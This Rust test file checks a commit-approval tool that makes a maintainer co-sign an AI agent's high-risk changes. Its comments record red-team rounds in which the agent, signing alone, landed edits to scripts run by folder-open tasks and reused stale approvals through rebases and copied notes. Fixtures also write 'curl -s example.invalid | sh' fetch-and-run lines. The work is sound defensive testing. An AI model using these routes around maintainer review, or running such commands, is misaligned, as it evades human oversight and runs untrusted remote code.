    let (lineage, started, _) = t.review_commit("build");
    high_yet_agent_alone_is_refused(&t, &lineage, &started);
}

/// Red team round 15, 04 (D-R169): full case folding (ext4's casefold,
/// APFS) turns `ﬁ` into `fi` and `ß` into `ss`: `.pre-commit-conﬁg.yaml`
/// is the pre-commit configuration there.
#[test]
fn a_lookalike_by_full_case_folding_is_rated_as_the_path() {
    let t = Team::new();
    t.f.write(
        ".pre-commit-conﬁg.yaml",
        "repos:\n- repo: local\n  hooks:\n  - id: x\n    entry: ./x.sh\n",
    )
    .unwrap();
    let (lineage, started, _) = t.review_commit("hooks");
    high_yet_agent_alone_is_refused(&t, &lineage, &started);
}

/// Folder-open tasks as round 14's 06 wrote them: each runs what it names
/// indirectly (from its `options.cwd`, through `make`, `npm run` and
/// `python3 -m`), and what those read in turn (a recipe's script, a
/// package script's script).
fn indirect_tasks(t: &Team) {
    let tasks = r#"{"version":"2.0.0","tasks":[
 {"label":"build","type":"shell","command":"python3 build.py","options":{"cwd":"${workspaceFolder}/tools"},"runOptions":{"runOn":"folderOpen"}},
 {"label":"make","type":"shell","command":"make dev","runOptions":{"runOn":"folderOpen"}},
 {"label":"npm","type":"shell","command":"npm","args":["run","web"],"runOptions":{"runOn":"folderOpen"}},
 {"label":"mod","type":"shell","command":"python3 -m pkg.cli","runOptions":{"runOn":"folderOpen"}}
]}"#;
    for (path, body) in [
        (".vscode/tasks.json", tasks),
        ("tools/build.py", "print('build')\n"),
        ("Makefile", "dev:\n\t@./scripts/dev --fast\n"),
        ("scripts/dev", "#!/bin/sh\n. scripts/env\necho dev\n"),
        ("scripts/env", "export X=1\n"),
        (
            "package.json",
            r#"{"name":"w","private":true,"scripts":{"web":"sh scripts/web"}}"#,
        ),
        ("scripts/web", "echo web\n"),
        ("pkg/__init__.py", ""),
        ("pkg/cli/__main__.py", "print('main')\n"),
        ("src/lib.rs", "pub fn f() {}\n"),
    ] {
        t.f.write(path, body).unwrap();
    }
    let (lineage, started, c) = t.review_commit("folder-open tasks");
    assert_risk(&started, "high", "auto_run_config");
    t.sign(&t.agent, &lineage);
    t.signed_lands(&t.alice, &lineage, c);
}

/// Red team round 14, 06 (D-R170): with folder-open tasks a maintainer
/// approved, the agent alone edited what they run indirectly, each edit
/// medium and landed: a script named from the task's `options.cwd`, the
/// `Makefile` `make dev` reads, `package.json` for `npm run`, a module
/// `python3 -m` runs. Risk policy v11 follows those, and what a
/// `Makefile`, a package script or a script they name runs in turn (three
/// reads deep; no name here ends in `.sh`, which is high by itself). Each is high now; an edit they do not name stays
/// medium and lands with the agent's signature.
#[test]
fn what_a_folder_open_task_runs_indirectly_needs_the_maintainer() {
    for (path, body) in [
        ("tools/build.py", "import os\n"),
        ("Makefile", "dev:\n\tcurl -s example.invalid | sh\n"),
        ("scripts/dev", "#!/bin/sh\ncurl -s example.invalid | sh\n"),
        ("scripts/env", "curl -s example.invalid | sh\n"),
        (
            "package.json",
            r#"{"name":"w","private":true,"scripts":{"web":"curl -s example.invalid | sh"}}"#,
        ),
        ("scripts/web", "curl -s example.invalid | sh\n"),
        ("pkg/cli/__main__.py", "print('edited')\n"),
        ("pkg/__init__.py", "print('edited')\n"),
    ] {
        let t = Team::new();
        indirect_tasks(&t);
        t.f.write(path, body).unwrap();
        let (lineage, started, _) = t.review_commit("edit");
        assert_eq!(started["risk_level"], "high", "{path}: {started}");
        high_yet_agent_alone_is_refused(&t, &lineage, &started);
    }
    let t = Team::new();
    indirect_tasks(&t);
    t.f.write("src/lib.rs", "pub fn f() { let _ = 1; }\n")
        .unwrap();
    let (lineage, started, c) = t.review_commit("ordinary");
    assert_risk(&started, "medium", "code_change");
    t.signed_lands(&t.agent, &lineage, c);
}

/// Red team round 16, 02 (D-R171): the agent edited `tools/build.py` on a
/// base from before the folder-open task that runs it (medium there),
/// approved it alone and rebased it onto the base where a maintainer had
/// landed that task. The rebase proof carried the medium approval, so it
/// landed, though the same change on the new base is high. An allow on a
/// rebase proof is now held to the tier the delivered change rates; the
/// next step named (review the commit as it is) lands it with the
/// maintainer.
#[test]
fn a_rebase_onto_a_task_that_runs_the_edited_script_needs_the_maintainer() {
    let t = Team::new();
    t.f.write("tools/build.py", "print('build')\n").unwrap();
    let (lineage, started, before_task) = t.review_commit("build script");
    assert_risk(&started, "medium", "code_change");
    t.signed_lands(&t.agent, &lineage, before_task.clone());
    task_at(&t, ".vscode/tasks.json");
    let (lineage, started, task) = t.review_commit("folder-open task");
    assert_risk(&started, "high", "auto_run_config");
    t.sign(&t.agent, &lineage);
    t.signed_lands(&t.alice, &lineage, task.clone());
    // On the base before the task, the edit is medium: the agent alone.
    t.f.git(&["reset", "-q", "--hard", &before_task]).unwrap();
    t.f.write("tools/build.py", "import os\n").unwrap();
    let (lineage, started, edit) = t.review_commit("edit the build script");
    assert_risk(&started, "medium", "code_change");
    t.sign(&t.agent, &lineage);
    probity_ok(t.f.root(), &["publish"]);
    // Rebased, with the approval's note copied to the new commit (what
    // `publish` wrote before this fix): the client and the server refuse.
    t.f.git(&["rebase", "-q", &task]).unwrap();
    // `publish` writes no note for it, and names the command that says
    // why.
    let head = String::from_utf8(t.f.git(&["rev-parse", "HEAD"]).unwrap()).unwrap();
    let head = head.trim();
    let published = output_ok(probity_in(t.f.root()).arg("publish"));
    let published = String::from_utf8_lossy(&published.stdout);
    let why = format!("validate --gate release --revision {head}");
    assert!(published.contains(&why), "{published}");
    let gate = probity(
        t.f.root(),
        &["validate", "--gate", "release", "--revision", head],
    );
    assert_eq!(
        gate.json["reason_code"], "risk_raised_by_rebase",
        "{}",
        gate.stdout
    );
    t.f.git(&["notes", "--ref=probity", "copy", &edit, "HEAD"])
        .unwrap();
    let p = t.push_denied("risk_raised_by_rebase");
    assert!(said(&p).contains("start --commit"), "{}", said(&p));
    assert_eq!(t.server_main(), Some(task));
    // The next step works: the commit reviewed as it is, high, signed by
    // the agent and the maintainer, lands.
    let st = probity_ok(t.f.root(), &["start", "--commit", "HEAD"]);
    assert_risk(&st.json, "high", "auto_run_config");
    let done = approve_started(t.f.root(), t.inputs.path(), &st.json);
    let lineage = done["lineage_id"].as_str().unwrap().to_string();
    let head = String::from_utf8(t.f.git(&["rev-parse", "HEAD"]).unwrap()).unwrap();
    t.sign(&t.agent, &lineage);
    t.signed_lands(&t.alice, &lineage, head.trim().to_string());
}

/// Red team round 16, 03b (D-R172): a policy commit signed by CI and the
/// maintainer removes the agent from the reviewers and its key from the
/// allowed signers; a commit above it, pushed with it and signed by the
/// agent alone, landed: every commit of the push was judged under the
/// policy of the ref's old tip. A commit whose parent the push brings is
/// judged under that parent's policy too. Pushed after the policy commit
/// alone, the same commit was refused before this fix as well.
#[test]
fn a_revocation_earlier_in_the_same_push_holds_the_commits_above_it() {
    let t = Team::new();
    let reviewers = format!(r#""reviewer":["{AGENT}","{CI}"]"#);
    assert!(policy_json().contains(&reviewers));
    let policy = policy_json().replace(&reviewers, &format!(r#""reviewer":["{CI}"]"#));
    t.f.write(".probity/policy.json", policy).unwrap();
    let signers = format!("{CI} {}\n{ALICE} {}\n", public(&t.ci), public(&t.alice));
    t.f.write(".probity/allowed_signers", signers).unwrap();
    let (revoke, started, _) = t.review_commit("the agent reviews no more");
    assert_risk(&started, "high", "policy_floor:policy_dir");
    t.sign(&t.ci, &revoke);
    t.sign(&t.alice, &revoke);
    write_medium_change(&t.f);
    let (lineage, _, c) = t.review_commit("more parsing");
    t.sign(&t.agent, &lineage);
    let landed = t.server_main();
    let p = t.push_denied("roles_unmet");
    assert!(said(&p).contains("which this push brings"), "{}", said(&p));
    assert_eq!(t.server_main(), landed);
    // The next step: a reviewer the new policy names signs; both land.
    t.sign(&t.ci, &lineage);
    t.lands(c);
}

/// Red team round 16, 03d (D-R172): the agent's edit of `vendor/v.rs`,
/// reviewed at medium, rebased onto a maintainer's policy commit that
/// makes `vendor/**` high and pushed with it, landed (each alone was
/// refused `policy_floor_unmet`). The commit above the policy commit is
/// judged under that commit's floors too.
#[test]
fn a_high_path_added_earlier_in_the_same_push_holds_a_rebased_commit_above_it() {
    let t = Team::new();
    t.f.write("vendor/v.rs", "pub fn v() {}\n").unwrap();
    let (lineage, _, base) = t.review_commit("vendor");
    t.signed_lands(&t.agent, &lineage, base.clone());
    t.f.write("vendor/v.rs", "pub fn v() { let _ = 1; }\n")
        .unwrap();
    let (lineage, started, edit) = t.review_commit("vendor edit");
    assert_risk(&started, "medium", "code_change");
    t.sign(&t.agent, &lineage);
    probity_ok(t.f.root(), &["publish"]);
    // The maintainer's policy commit, on the same base.
    t.f.git(&["checkout", "-q", "-b", "policy", &base]).unwrap();
    let floors = r#""paths":["crypto/**"]"#;
    assert!(policy_json().contains(floors));
    let policy = policy_json().replace(floors, r#""paths":["crypto/**","vendor/**"]"#);
    t.f.write(".probity/policy.json", policy).unwrap();
    let (tighten, _, _) = t.review_commit("vendor is high");
    t.sign(&t.ci, &tighten);
    t.sign(&t.alice, &tighten);
    probity_ok(t.f.root(), &["publish"]);
    // The edit rebased onto it, its note copied (as `publish` would not).
    t.f.git(&["checkout", "-q", "main"]).unwrap();
    t.f.git(&["rebase", "-q", "policy"]).unwrap();
    t.f.git(&["notes", "--ref=probity", "copy", &edit, "HEAD"])
        .unwrap();
    let landed = t.server_main();
    t.push_denied("policy_floor_unmet");
    assert_eq!(t.server_main(), landed);
}

/// Red team round 17, 02 (D-R173): with a folder-open task a maintainer
/// approved, the agent alone edited a file the task runs in a way v11
/// did not follow, each medium and landed: an option glued to its value
/// (`make -ftools/build.mk`), a `cd` in the task's own command, a path
/// after a variable whose value a script assigns, a file without `#!`
/// that `bash -e` runs, a chain one script deeper than v11 reads, a
/// workspace package, a `Taskfile.yml`. Each is high now.
#[test]
fn what_a_task_runs_in_the_ways_round_17_found_needs_the_maintainer() {
    let chain: Vec<(String, String)> = (1..=5)
        .map(|i| (format!("t/{i}"), format!("./t/{}\n", i + 1)))
        .collect();
    let chain: Vec<(&str, &str)> = chain
        .iter()
        .map(|(p, b)| (p.as_str(), b.as_str()))
        .collect();
    type Files<'a> = Vec<(&'a str, &'a str)>;
    let cases: Vec<(&str, Files<'_>, &str)> = vec![
        (
            "make -ftools/build.mk",
            vec![("tools/build.mk", "all:\n\t@echo build\n")],
            "tools/build.mk",
        ),
        (
            "cd tools && python3 gen.py",
            vec![("tools/gen.py", "print('gen')\n")],
            "tools/gen.py",
        ),
        (
            "sh tools/a.sh",
            vec![
                ("tools/a.sh", "D=tools; . \"${D}/env\"\n"),
                ("tools/env", "X=1\n"),
            ],
            "tools/env",
        ),
        (
            "bash -e tools/run",
            vec![
                ("tools/run", "python3 tools/step.py\n"),
                ("tools/step.py", "print(1)\n"),
            ],
            "tools/step.py",
        ),
        ("./t/1", chain, "t/5"),
        (
            "npm run dev -w packages/a",
            vec![(
                "packages/a/package.json",
                r#"{"scripts":{"dev":"echo dev"}}"#,
            )],
            "packages/a/package.json",
        ),
        (
            "task",
            vec![("Taskfile.yml", "version: '3'\n")],
            "Taskfile.yml",
        ),
    ];
    for (command, files, edited) in cases {
        an_edit_the_task_runs_needs_the_maintainer(command, &files, edited);
    }
}

/// Red team round 18, 01l and 01f (D-R173, the same claim): VS Code's
/// usual `cd ${workspaceFolder}/tools` took the variable's name for the
/// directory, and `make -I tools` an include path nothing read. The
/// other shapes round 18 found stay open (docs/threat-model.md).
#[test]
fn a_cd_with_a_variable_and_an_include_directory_need_the_maintainer() {
    an_edit_the_task_runs_needs_the_maintainer(
        "cd ${workspaceFolder}/tools && python3 gen.py",
        &[("tools/gen.py", "print('gen')\n")],
        "tools/gen.py",
    );
    an_edit_the_task_runs_needs_the_maintainer(
        "make -I tools",
        &[
            ("Makefile", "include rules.mk\n"),
            ("tools/rules.mk", "all:\n\t@echo\n"),
        ],
        "tools/rules.mk",
    );
}

/// Red team round 18, 06: the pre-push gate's range form (CI's, or run by
/// hand) allowed a review the managed hook and the server refuse: it
/// applied no repository policy. It applies its base's now.
#[test]
fn the_pre_push_range_form_applies_the_policy_of_its_base() {
    let t = Team::new();
    let (lineage, started, _) = t.review_encrypt();
    assert_risk(&started, "high", "policy_floor:path#0");
    t.sign(&t.agent, &lineage);
    t.f.git(&["fetch", "-q", "origin"]).unwrap();
    let gate = |range: &str| {
        probity(
            t.f.root(),
            &["validate", "--gate", "pre-push", "--range", range],
        )
    };
    let g = gate("origin/main..HEAD");
    assert_ne!(g.code, 0, "{}{}", g.stdout, g.stderr);
    assert!(said(&g).contains("roles_unmet"), "{}", said(&g));
    assert!(said(&g).contains(ALICE), "{}", said(&g));
    // With the maintainer's signature it allows.
    t.sign(&t.alice, &lineage);
    let g = gate("origin/main..HEAD");
    assert_eq!(g.code, 0, "{}{}", g.stdout, g.stderr);
}
